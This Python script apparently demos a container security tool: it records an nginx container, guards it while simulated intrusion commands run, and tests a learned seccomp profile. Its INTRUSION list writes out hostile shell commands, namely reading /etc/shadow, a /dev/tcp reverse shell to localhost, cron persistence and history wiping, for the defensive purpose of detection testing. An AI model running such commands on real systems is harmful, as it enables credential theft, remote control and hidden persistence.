#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Merlon on a container that it makes: `make run` guards one while it is attacked and says what it sees; `make demo` is a
tour: record, guard, attack, see, stop, report."""

from __future__ import annotations

import argparse
import json
import os
import signal
import subprocess
import sys
import time
from contextlib import contextmanager
from pathlib import Path
from typing import Iterator

TOP = Path(__file__).resolve().parent.parent
sys.path[:0] = [str(TOP / "tests" / "containers"), str(TOP / "tests" / "rig")]

ATTACKS = ("unshare", "clone_newuser", "ptrace", "keyctl", "io_uring_setup", "af_alg", "af_packet", "af_vsock", "chroot")


def say(text: str = "") -> None:
    """A line of the tour."""
    print(text, flush=True)


def show(command: list[str | Path], keep: int = 1000) -> None:
    """Run a command as a person would type it, with its output."""
    say(f"$ {' '.join(os.path.relpath(c) if isinstance(c, Path) else c for c in command)}")
    output = subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True).stdout
    lines = output.splitlines()
    for line in lines[:keep]:
        say(line)
    if len(lines) > keep:
        say(f"... ({len(lines) - keep} more lines)")
    say()


# What an intruder does who got into a web server, as commands of a shell; all of it stays in the container.
INTRUSION = (
    ("looks for passwords", "cat /etc/shadow >/dev/null"),
    ("brings a program of their own", "cp /bin/busybox /tmp/.x && /tmp/.x true"),
    ("calls home", "exec 3<>/dev/tcp/127.0.0.1/4444 && sh <&3 >&3"),
    ("stays", "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/.x' >/etc/cron.d/x"),
    ("tidies up", "rm -f /tmp/.x; touch /root/.bash_history; rm /root/.bash_history"),
)


@contextmanager
def guarding(binary: Path, store: Path) -> Iterator[None]:
    """The guard with the shipped rules; what it says goes where everything goes."""
    command = [binary, "guard", "--rules", TOP / "content" / "rules", "--store", store]
    say(f"$ {' '.join(os.path.relpath(c) if isinstance(c, Path) else c for c in command)}")
    process = subprocess.Popen(command, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
    assert process.stderr
    try:
        say(process.stderr.readline().rstrip())
        yield
        time.sleep(1)
    finally:
        process.send_signal(signal.SIGINT)
        say(process.communicate()[1].rstrip())
        say()
    if process.returncode not in (0, 1):     # 1: something was lost, and it says so
        sys.exit(f"the guard ended with {process.returncode}: see what it says above")


def intrude(binary: Path, store: Path) -> None:
    """Guard nginx while it serves, and while somebody is in it."""
    from container import container
    from workloads import WORKLOADS

    nginx = WORKLOADS["nginx"]
    say("The guard watches every container of this machine from its birth. One is made: nginx, which serves and reloads. "
        "That is no news. Then an intruder in it ...\n")
    with guarding(binary, store), container("runc", nginx.spec()) as box:
        box.run()
        nginx.ready(box)
        nginx.drive(box)
        nginx.rare(box)
        for what, command in INTRUSION:
            time.sleep(0.3)
            say(f"  >> {what}: {command}")
            box.exec("/bin/bash", "-c", command)
        nginx.drive(box)
        nginx.stop(box)


def tell(binary: Path, store: Path) -> None:
    """What is kept of it: the list, and the story of the worst."""
    say("All of it is kept. What there was, and the story of one:\n")
    show([binary, "alerts", "stats", "--store", store], keep=20)
    done = subprocess.run([binary, "alerts", "list", "--store", store, "--json", "--priority", "critical"], text=True,
                          stdout=subprocess.PIPE)
    if alerts := json.loads(done.stdout):
        show([binary, "alerts", "show", "--store", store, alerts[-1]["uuid"]], keep=60)


def record(out: Path) -> Path:
    """Record nginx in a container of ours, from its first moment, while it is used and reloaded."""
    import merlon
    from container import container
    from workloads import WORKLOADS

    nginx = WORKLOADS["nginx"]
    with container("runc", nginx.spec()) as box:
        say(f"A container: nginx under runc, called {box.id}. Merlon waits for it, then it starts, serves, reloads "
            "and stops.\n")
        command = [merlon.BINARY, "record", "--wait", "--container", box.id, "--name", "nginx", "--output", out]
        say(f"$ merlon {' '.join(map(str, command[1:-1]))} {os.path.relpath(out)}")
        with merlon.Recording("--wait", "-c", box.id, name="nginx") as recording:
            box.run()
            nginx.ready(box)
            nginx.drive(box)
            nginx.rare(box)
            nginx.stop(box)
            box.delete()
            recording.stop()
            out.mkdir(parents=True, exist_ok=True)
            for path in recording.directory.glob("nginx.*"):
                (out / path.name).write_bytes(path.read_bytes())
            say(recording.log.read_text().split("\n", 1)[1].replace(str(recording.directory), os.path.relpath(out)))
    return out / "nginx.merlon.json"


def attack(seccomp: dict | None, capabilities: list[str] | None) -> dict[str, str]:
    """What an intruder in the container achieves; nginx must serve afterwards."""
    from container import container
    from programs import build as programs
    from workloads import WORKLOADS

    nginx, results = WORKLOADS["nginx"], {}
    spec = nginx.spec(files={"/opt/intruder": programs.programs() / "intruder"}, seccomp=seccomp, capabilities=capabilities)
    with container("runc", spec) as box:
        box.run()
        nginx.ready(box)
        for action in ATTACKS:
            done = box.exec("/opt/intruder", action)
            results[action] = "WORKS" if done.returncode == 1 else "denied" if done.returncode == 0 else "fails"
        nginx.drive(box)
    return results


def tour(profile: Path, binary: Path) -> None:
    """From the profile to a container that an intruder can do little in."""
    import merlon

    say("What it learned, and why a thing is allowed:\n")
    show([binary, "profile", "show", profile], keep=24)
    show([binary, "profile", "explain", profile, "socket", "CAP_NET_BIND_SERVICE", "unshare"])
    learned = merlon.Profile(profile)
    filter_ = learned.seccomp("--with-entered")
    allowed = {name for rule in filter_["syscalls"] for name in rule["names"]}
    say(f"The filter made from it allows {len(allowed)} system calls; engines' default profiles allow over 300.\n")
    say("An intruder gets a program into the container and runs it, first without, then with the profile:\n")
    before = attack(None, None)
    after = attack(filter_, learned.oci_capabilities())
    for action in ATTACKS:
        say(f"  {action:16} without: {before[action]:8} with: {after[action]}")
    say("\nnginx served all the while." + ("" if "WORKS" not in after.values() else " BUT SOMETHING WORKED."))


def main() -> int:
    """`run` or `tour`."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--build", type=Path, default=TOP / "build")
    parser.add_argument("what", choices=("run", "tour"))
    options = parser.parse_args()
    build = options.build.resolve()
    os.environ.setdefault("MERLON_RIG_DIR", str(build / "rig"))
    os.environ["MERLON_BINARY"] = str(build / "merlon")
    import rootfs
    from programs import build as programs

    say("A root file system for test containers, from Debian packages (made once, about a minute).")
    rootfs.rootfs()
    programs.programs()
    binary, out = build / "merlon", build / "demo"
    out.mkdir(parents=True, exist_ok=True)
    store = out / "alerts" / "alerts.db"
    for old in store.parent.glob("alerts.db*"):
        old.unlink()
    if options.what == "tour":
        say("1. LEARN what a container needs.\n")
        profile = record(out)
        say("2. GUARD it, and see an intruder.\n")
        intrude(binary, store)
        say("3. REPORT.\n")
        tell(binary, store)
        say("4. STOP it: the container with what it needs, and no more.\n")
        tour(profile, binary)
    else:
        intrude(binary, store)
        say(f"Kept in {os.path.relpath(store)}: {os.path.relpath(binary)} alerts list --store {os.path.relpath(store)}")
        say(f"Your own containers: {os.path.relpath(binary)} guard --rules content/rules (as root). A tour: make demo.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
